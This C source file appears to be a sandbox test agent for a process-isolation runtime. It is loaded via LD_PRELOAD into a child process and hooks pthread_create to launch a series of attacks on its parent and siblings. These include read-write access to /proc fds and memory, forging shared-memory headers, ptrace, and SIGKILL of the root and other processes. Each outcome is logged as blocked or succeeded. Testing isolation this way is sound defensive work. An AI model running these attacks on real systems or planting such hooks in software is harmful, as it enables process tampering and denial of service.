/*
 * agent.c - a "compromised child": an LD_PRELOAD agent that a config loads
 * into one FMP (`preload: [PATH]`), and that attacks the rest of the
 * program from inside it, the way an exploited module could.
 *
 * It waits until its FMP serves its first call (the program is then fully
 * up: every FMP ready, main() running), then tries, in order:
 *
 *   proc-fd        open /proc/ROOT/fd/N read-write for every N, map every
 *                  region it finds (pairs it is no party to included) and
 *                  forge the liveness words of both sides in each header
 *   proc-mem       open /proc/ROOT/mem read-write and read the root's memory
 *   fds            scan its own descriptor table for anything it should not
 *                  hold (a descriptor of the root's) and write to it
 *   forge          forge its own side's liveness words ("gone", "killed by
 *                  signal 90") in every region it maps with the root
 *   trace          ptrace(PTRACE_SEIZE) the root, and read its memory with
 *                  process_vm_readv
 *   kill-siblings  SIGKILL every other FMP of the program
 *   kill-root      SIGKILL the root
 *   forbidden      a syscall of the sandbox's "kill" class (only when asked:
 *                  it ends this FMP, by design)
 *
 * Each attack appends one line to the file $FR_ATTACK_REPORT: "NAME:
 * blocked|succeeded|harmless DETAIL".  $FR_ATTACK_SKIP lists attacks (by
 * name, comma-separated) not to make; $FR_ATTACK_ONLY, if set, the only
 * ones to make; $FR_ATTACK_SERVING_ONLY makes kill-siblings spare the warm
 * spares ("fr-standby").  The report is opened at load time, before the FMP is
 * sandboxed: a sandboxed FMP may still write to a descriptor it holds.
 *
 * The waiting is done by wrapping pthread_create: an FMP makes its
 * acceptor thread, then a parked worker; the next thread it makes replaces
 * the parked worker the first call took.  A warm spare makes threads
 * before it serves: it attacks at the first thread it makes once it does.
 *
 * The header words forged are those of the region layout as the runtime
 * had it when the attack was written (rt/lib/region.h): what the root of
 * that version read to decide who died and how.
 */
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define REGION_MAGIC 0x46524731u   /* "FRG1" */
#define OFF_GONE_STATUS 144        /* _Atomic int32_t gone_status[2] */
#define OFF_GONE 152               /* _Atomic uint32_t gone[2] */
#define OFF_LOST 168               /* _Atomic uint32_t lost[2] */
#define FORGED_STATUS 90           /* a wait status: "killed by signal 90" */

#define MAX_PIDS 64

static int report_fd = -1;
static int maps_fd = -1;           /* /proc/self/maps, opened before any sandbox */
static int comm_fd = -1;           /* /proc/self/comm: the main thread's name */
static pid_t root;
static pid_t known[MAX_PIDS];      /* FMPs seen at load time */
static int nknown;
static int done_before;            /* an earlier incarnation attacked already */
static int (*real_create)(pthread_t *, const pthread_attr_t *, void *(*)(void *), void *);

static void say(const char *fmt, ...)
{
    char line[1024];
    va_list ap;
    int n;

    va_start(ap, fmt);
    n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if ((size_t)n > sizeof line - 2)
        n = (int)sizeof line - 2;
    line[n++] = '\n';
    if (write(report_fd, line, (size_t)n) < 0)
        return;
}

static int listed(const char *var, const char *name)
{
    const char *v = getenv(var);
    size_t len = strlen(name);

    for (const char *p = v; p && *p;) {
        const char *end = strchr(p, ',');
        size_t n = end ? (size_t)(end - p) : strlen(p);
        if (n == len && strncmp(p, name, len) == 0)
            return 1;
        p = end ? end + 1 : NULL;
    }
    return 0;
}

static int wanted(const char *name)
{
    if (getenv("FR_ATTACK_ONLY"))
        return listed("FR_ATTACK_ONLY", name);
    return strcmp(name, "forbidden") != 0 && !listed("FR_ATTACK_SKIP", name);
}

/* Whether @pid is an FMP of this program now (its parent the root, its
 * name an FMP's): 1, 0, or -1 if /proc cannot be read (a sandbox). */
static int is_fmp(pid_t pid, char *comm, size_t commlen)
{
    char path[64], buf[512];
    int fd, ppid;
    ssize_t got;

    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return errno == ENOENT ? 0 : -1;
    got = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (got <= 0)
        return 0;
    buf[got] = '\0';
    char *lp = strchr(buf, '('), *rp = strrchr(buf, ')');
    if (!lp || !rp || rp - lp - 1 >= (long)commlen || sscanf(rp + 2, "%*c %d", &ppid) != 1)
        return 0;
    memcpy(comm, lp + 1, (size_t)(rp - lp - 1));
    comm[rp - lp - 1] = '\0';
    return ppid == root && (strncmp(comm, "fr:", 3) == 0 ||
                            (strcmp(comm, "fr-standby") == 0 && !getenv("FR_ATTACK_SERVING_ONLY")));
}

/* The other FMPs: processes whose parent is the root and whose name is an
 * FMP's ("fr:NAME", or "fr-standby" for one not serving yet).  -1 with
 * errno if /proc cannot be read. */
static int find_fmps(pid_t *out, int max)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int n = 0;

    if (!d)
        return -1;
    while ((e = readdir(d)) && n < max) {
        char comm[32];
        int pid = atoi(e->d_name);
        if (pid > 0 && pid != getpid() && is_fmp(pid, comm, sizeof comm) == 1)
            out[n++] = pid;
    }
    closedir(d);
    return n;
}

/* Write the forged words of @side into a region header. */
static void forge_side(unsigned char *hdr, int side)
{
    *(volatile int32_t *)(hdr + OFF_GONE_STATUS + 4 * side) = FORGED_STATUS;
    *(volatile uint32_t *)(hdr + OFF_GONE + 4 * side) = 1;
    *(volatile uint32_t *)(hdr + OFF_LOST + 4 * side) = 1;
}

static void attack_proc_fd(void)
{
    int opened = 0, regions = 0, forged = 0, first_err = 0;

    for (int n = 0; n < 256; n++) {
        char path[64];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)root, n);
        int fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd < 0) {
            if (errno != ENOENT && !first_err)
                first_err = errno;
            continue;
        }
        opened++;
        if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && st.st_size >= 4096) {
            unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
            if (p != MAP_FAILED) {
                if (*(uint32_t *)p == REGION_MAGIC) {
                    regions++;
                    forge_side(p, 0);
                    forge_side(p, 1);
                    forged++;
                }
                munmap(p, 4096);
            }
        }
        close(fd);
    }
    if (opened)
        say("proc-fd: succeeded opened %d descriptors of the root read-write, mapped %d "
            "regions, forged the words of both sides in %d", opened, regions, forged);
    else
        say("proc-fd: blocked (%s)", first_err ? strerror(first_err) : "nothing to open");
}

static void attack_proc_mem(void)
{
    char path[64];
    int fd;

    snprintf(path, sizeof path, "/proc/%d/mem", (int)root);
    fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        say("proc-mem: blocked (%s)", strerror(errno));
        return;
    }
    /* Where the root's code is: its first mapping, read from its maps. */
    char buf[256] = "";
    unsigned long lo = 0;
    snprintf(path, sizeof path, "/proc/%d/maps", (int)root);
    int mfd = open(path, O_RDONLY | O_CLOEXEC);
    if (mfd >= 0) {
        if (read(mfd, buf, sizeof buf - 1) > 0)
            sscanf(buf, "%lx", &lo);
        close(mfd);
    }
    unsigned char word[8];
    ssize_t got = lo ? pread(fd, word, sizeof word, (off_t)lo) : -1;
    say("proc-mem: succeeded opened /proc/%d/mem read-write%s", (int)root,
        got == (ssize_t)sizeof word ? ", and read the root's memory" : "");
    close(fd);
}

static void attack_trace(void)
{
    /* The same binary: the root has this agent's code too, somewhere. */
    char word[8];
    struct iovec here = { word, sizeof word }, there = { (void *)&attack_trace, sizeof word };
    long traced = ptrace(PTRACE_SEIZE, root, NULL, NULL);
    int terr = errno;

    if (traced == 0)
        ptrace(PTRACE_DETACH, root, NULL, NULL);
    ssize_t got = process_vm_readv(root, &here, 1, &there, 1, 0);
    int rerr = errno;
    if (traced == 0 || got >= 0)
        say("trace: succeeded ptrace(PTRACE_SEIZE) %s, process_vm_readv %s",
            traced == 0 ? "attached" : strerror(terr), got >= 0 ? "read" : strerror(rerr));
    else
        say("trace: blocked (ptrace: %s; process_vm_readv: %s)", strerror(terr), strerror(rerr));
}

/* Its own descriptors: an FMP holds stdin, stdout, stderr, its regions'
 * sockets and its control socket (all sockets), and what its agents
 * opened (here: the report and /proc/self/maps).  Anything else was the
 * root's. */
static void attack_fds(void)
{
    char extra[512] = "";
    size_t len = 0;
    int nextra = 0, written = 0;

    for (int fd = 3; fd < 1024; fd++) {
        struct stat st;
        if (fd == report_fd || fd == maps_fd || fd == comm_fd || fstat(fd, &st) < 0 ||
            S_ISSOCK(st.st_mode))
            continue;
        nextra++;
        if (len < sizeof extra - 32)
            len += (size_t)snprintf(extra + len, sizeof extra - len, " %d(%s)", fd,
                                    S_ISFIFO(st.st_mode) ? "pipe" : S_ISREG(st.st_mode) ? "file"
                                                                                       : "other");
        if (S_ISFIFO(st.st_mode) && write(fd, "forged by the agent\n", 20) == 20)
            written++;
    }
    if (nextra)
        say("fds: succeeded holds %d descriptors of the root's:%s; wrote to %d", nextra, extra,
            written);
    else
        say("fds: blocked (holds nothing but its own)");
}

/* The regions it maps: memfds named "fracture:A-B" in its own maps. */
static void attack_forge(void)
{
    char buf[65536];
    ssize_t got = maps_fd >= 0 ? pread(maps_fd, buf, sizeof buf - 1, 0) : -1;
    int forged = 0;

    if (got <= 0) {
        say("forge: blocked (cannot read its own maps: %s)", strerror(errno));
        return;
    }
    buf[got] = '\0';
    for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n")) {
        unsigned long lo;
        char *name = strstr(line, "/memfd:fracture:");
        if (!name || sscanf(line, "%lx", &lo) != 1)
            continue;
        /* Only regions with the root, side 0 of each ("fracture:ROOT-X";
         * $FR_ATTACK_ROOT_NAME names it, "root" unless the config does):
         * its own side there is 1. */
        const char *rootname = getenv("FR_ATTACK_ROOT_NAME") ? getenv("FR_ATTACK_ROOT_NAME")
                                                             : "root";
        unsigned char *hdr = (unsigned char *)lo;
        if (strncmp(name + 16, rootname, strlen(rootname)) != 0 ||
            name[16 + strlen(rootname)] != '-' || *(uint32_t *)hdr != REGION_MAGIC)
            continue;
        forge_side(hdr, 1);
        forged++;
    }
    say("forge: made forged its own side's words (gone, lost, killed by signal %d) in %d "
        "regions it maps with the root", FORGED_STATUS, forged);
}

static void attack_kill_siblings(void)
{
    pid_t now[MAX_PIDS], all[2 * MAX_PIDS];
    int n = find_fmps(now, MAX_PIDS), nall = 0, killed = 0, first_err = 0;
    char pids[1024] = "";
    size_t len = 0;

    /* Those it could see at load time too: a sandbox may hide /proc now. */
    for (int i = 0; i < nknown; i++)
        all[nall++] = known[i];
    for (int i = 0; i < n; i++) {
        int dup = 0;
        for (int j = 0; j < nall; j++)
            dup |= all[j] == now[i];
        if (!dup)
            all[nall++] = now[i];
    }
    for (int i = 0; i < nall; i++) {
        char comm[64] = "?";
        /* A pid seen at load time may be another process's by now: only
         * one still an FMP of this program is killed.  Where /proc is
         * closed (a sandbox) it cannot be checked, and the kill is tried:
         * the filter refuses it whoever it is. */
        int now_fmp = is_fmp(all[i], comm, sizeof comm);
        if (now_fmp == 0)
            continue;
        if (kill(all[i], SIGKILL) == 0) {
            killed++;
            if (len < sizeof pids - 40)
                len += (size_t)snprintf(pids + len, sizeof pids - len, " %d(%s)", (int)all[i],
                                        comm);
        } else if (!first_err) {
            first_err = errno;
        }
    }
    if (killed)
        say("kill-siblings: succeeded killed %d of %d FMPs:%s%s", killed, nall, pids,
            n < 0 ? " (/proc was closed to it)" : "");
    else
        say("kill-siblings: blocked (%d FMPs tried; %s%s)", nall,
            first_err ? strerror(first_err) : "none found", n < 0 ? "; /proc closed" : "");
}

static void attack_kill_root(void)
{
    /* The line first: if it works, nothing of this process runs after. */
    say("kill-root: trying kill(%d, SIGKILL)", (int)root);
    if (kill(root, SIGKILL) < 0)
        say("kill-root: blocked (%s)", strerror(errno));
    else
        say("kill-root: succeeded");
}

static void attack_forbidden(void)
{
    say("forbidden: trying syscall(SYS_acct, NULL), of the sandbox's kill class");
    long rc = syscall(SYS_acct, NULL);
    say("forbidden: not killed: acct returned %ld (%s)", rc, rc < 0 ? strerror(errno) : "ok");
}

/* In order: kill-root last, since nothing runs after it if it works. */
static const struct {
    const char *name;
    void (*fn)(void);
} attacks[] = {
    { "proc-fd", attack_proc_fd },   { "proc-mem", attack_proc_mem },
    { "fds", attack_fds },           { "forge", attack_forge },
    { "trace", attack_trace },
    { "kill-siblings", attack_kill_siblings }, { "forbidden", attack_forbidden },
    { "kill-root", attack_kill_root },
};

static void attack(void)
{
    say("agent: pid %d, root %d", (int)getpid(), (int)root);
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
        if (wanted(attacks[i].name))
            attacks[i].fn();
    say("agent: done");
}

/* Whether this FMP serves: a warm spare's main thread is "fr-standby"
 * until it takes over (child.c), and a spare makes its predecessor's
 * workers while it waits, so the count of threads alone cannot tell. */
static int serving(void)
{
    char name[32];
    ssize_t n = comm_fd >= 0 ? pread(comm_fd, name, sizeof name - 1, 0) : -1;

    return n > 0 && strncmp(name, "fr-standby", 10) != 0;
}

int pthread_create(pthread_t *t, const pthread_attr_t *a, void *(*fn)(void *), void *arg)
{
    static _Atomic int made, attacked;

    if (++made >= 3 && report_fd >= 0 && !done_before && !attacked && serving() &&
        !atomic_exchange(&attacked, 1)) {
        /* A warm spare loaded the agent before the first attack: the
         * report, read again now, tells it the attack was made. */
        char c;
        if (pread(report_fd, &c, 1, 0) != 1)
            attack();
    }
    return real_create(t, a, fn, arg);
}

__attribute__((constructor)) static void agent_init(void)
{
    const char *path = getenv("FR_ATTACK_REPORT");

    real_create = (int (*)(pthread_t *, const pthread_attr_t *, void *(*)(void *), void *))
        dlsym(RTLD_NEXT, "pthread_create");
    /* Only in an FMP: the root (no FRACTURE_PLAN) is left alone. */
    if (!path || !getenv("FRACTURE_PLAN"))
        return;
    report_fd = open(path, O_RDWR | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
    maps_fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
    comm_fd = open("/proc/self/comm", O_RDONLY | O_CLOEXEC);
    root = getppid();
    /* One attack per run: a restarted incarnation of this FMP loads the
     * agent again, and finds the report begun. */
    char seen[8192];
    int rfd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got = rfd >= 0 ? read(rfd, seen, sizeof seen - 1) : -1;
    if (rfd >= 0)
        close(rfd);
    done_before = got > 0;
    int n = find_fmps(known, MAX_PIDS);
    nknown = n > 0 ? n : 0;
}
